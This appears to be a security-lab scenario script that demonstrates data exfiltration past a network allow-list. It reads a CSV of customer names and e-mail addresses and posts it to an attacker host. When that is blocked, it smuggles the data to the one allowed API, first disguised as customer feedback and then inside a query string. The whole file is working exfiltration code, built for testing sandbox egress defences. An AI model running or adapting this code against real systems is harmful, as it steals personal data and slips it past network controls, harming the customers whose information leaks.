# lab:title: Smuggle the customer data out through the allowed API
# lab:threat: exfil
# lab:layer: network
# lab:uses: api.lab.test:80
# lab:consequence: The customer list left the sandbox: at the attacker, or, where an allow-list refused the attacker, in the inbox of the one host it trusts. An allow-list narrows the door; it does not check what goes through it.
"""Data exfiltration past an allow-list: when the attacker's own host is
refused, send the data where the sandbox is allowed to go.

Reads the sales CSV (LAB_DATA), which holds customer names and e-mail
addresses, and POSTs it to the attacker (LAB_ATTACKER) through whatever
proxy the environment names, as any urllib client would. If that is
refused or unreachable, it posts the same bytes as "feedback" to the API
the task is allowed to use (LAB_API + "feedback"), and failing that puts
the first rows in a query string of a GET there: both reach a host the
allow-list lets out. Prints what it tried and how each answered.
"""
import os
import sys
import urllib.error
import urllib.parse
import urllib.request


def send(req):
    """(True, status) when a server got the request, (False, why) if not."""
    try:
        with urllib.request.urlopen(req, timeout=3) as resp:
            resp.read(4096)
            return True, f"HTTP {resp.status} {resp.reason}"
    except urllib.error.HTTPError as e:
        body = e.read(512).decode("utf-8", "replace").strip()
        return False, f"HTTP {e.code} {e.reason}: {body}"
    except Exception as e:  # URLError, timeout, reset, ...
        return False, str(e)


def main():
    data_path = os.environ.get("LAB_DATA")
    attacker = os.environ.get("LAB_ATTACKER")
    api = os.environ.get("LAB_API")
    if not data_path or not attacker:
        print("LAB_DATA or LAB_ATTACKER is not set", flush=True)
        return 1
    with open(data_path, "rb") as f:
        body = f.read(1024 * 1024)
    print(f"read {len(body)} bytes of customer data", flush=True)

    print(f"1. POST {attacker}", flush=True)
    # lab:danger: the customer data, straight to the attacker
    ok, how = send(urllib.request.Request(
        attacker, data=body, method="POST",
        headers={"Content-Type": "text/csv"}))
    print(f"   -> {how}", flush=True)
    if ok:
        return 0
    if not api:
        print("no allowed API to hide behind", flush=True)
        return 1

    url = api + "feedback"
    print(f"2. POST {url} (the data dressed up as feedback)", flush=True)
    # lab:danger: the same data, smuggled out through the allowed host
    ok, how = send(urllib.request.Request(
        url, data=b"Great service! Attached our notes:\n" + body,
        method="POST", headers={"Content-Type": "text/plain"}))
    print(f"   -> {how}", flush=True)
    if ok:
        return 0

    rows = body.decode("utf-8", "replace").splitlines()[-3:]
    url = api + "prices?" + urllib.parse.urlencode({"ref": "\n".join(rows)})
    print(f"3. GET {api}prices?ref=... (the last rows in a query string)", flush=True)
    ok, how = send(url)
    print(f"   -> {how}", flush=True)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
